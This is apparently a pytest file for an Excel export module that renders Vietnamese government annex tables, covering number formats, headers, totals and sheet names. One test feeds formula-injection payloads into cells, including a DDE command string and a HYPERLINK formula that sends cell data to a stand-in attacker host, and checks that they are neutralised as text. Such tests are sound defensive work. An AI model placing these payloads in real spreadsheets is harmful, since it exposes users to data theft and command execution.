from __future__ import annotations

from decimal import Decimal
from io import BytesIO

from openpyxl import load_workbook

from rendering.spec import Amount, Table
from rendering.xlsx import annex_workbook, sheet_name

ANNEX = Table(
    columns=("Cơ quan", "Tờ rơi", "Tỷ lệ xã được tuyên truyền (%)"),
    rows=(
        ("Ban Dân tộc", Amount(Decimal(43000), 0), Amount(Decimal("33.24"), 1)),
        ("Công an tỉnh", Amount(Decimal(1250), 0), Amount(Decimal("70.0000"), 1)),
    ),
    title="Phụ lục: tuyên truyền năm 2023",
    total=("Tổng cộng", 44250, None),
)


def _sheet():
    return load_workbook(BytesIO(annex_workbook([ANNEX])))["Phụ lục  tuyên truyền năm 2023"]


def test_numbers_stay_exact_numbers_shown_with_the_indicators_decimals():
    sheet = _sheet()
    leaflets = sheet["B4"]
    assert leaflets.value == 43000 and leaflets.number_format == "[$-42A]#,##0"
    # The cell keeps 33,24; the format shows the rate's one decimal, as the page does.
    assert sheet["C4"].value == 33.24 and sheet["C4"].number_format == "[$-42A]#,##0.0"
    assert sheet["C5"].value == 70 and sheet["C5"].number_format == "[$-42A]#,##0.0"
    assert sheet["B6"].value == 44250 and sheet["B6"].number_format == "[$-42A]#,##0"


def test_text_that_would_start_a_formula_stays_text():
    table = Table(
        columns=("Cơ quan", "=cmd|' /C calc'!A0"),
        rows=(('=HYPERLINK("http://evil.example/?d="&A3,"x")', Amount(Decimal(-5), 0)),),
        title="@SUM(1+1)",
    )
    sheet = load_workbook(BytesIO(annex_workbook([table]))).worksheets[0]
    assert sheet["A1"].value == "'@SUM(1+1)" and sheet["A1"].data_type == "s"
    assert sheet["B3"].value == "'=cmd|' /C calc'!A0" and sheet["B3"].data_type == "s"
    assert sheet["A4"].value.startswith("'=HYPERLINK") and sheet["A4"].data_type == "s"
    assert sheet["B4"].value == -5 and sheet["B4"].data_type == "n"


def test_title_header_and_total_rows():
    sheet = _sheet()
    assert sheet["A1"].value == "Phụ lục: tuyên truyền năm 2023" and sheet["A1"].font.b
    assert [c.value for c in sheet[3]] == list(ANNEX.columns)
    assert all(c.font.b and c.font.name == "Times New Roman" for c in sheet[3])
    assert sheet["A6"].value == "Tổng cộng" and sheet["B6"].font.b
    assert sheet.freeze_panes == "B4"
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.page_setup.orientation == "landscape"


def test_sheet_names_are_valid_for_excel():
    assert sheet_name("Phụ lục [1]: số liệu/kiểm tra cơ sở kinh doanh dịch vụ", 1) == (
        "Phụ lục  1   số liệu kiểm tra c"
    )
    assert sheet_name("", 2) == "Phụ lục 2"
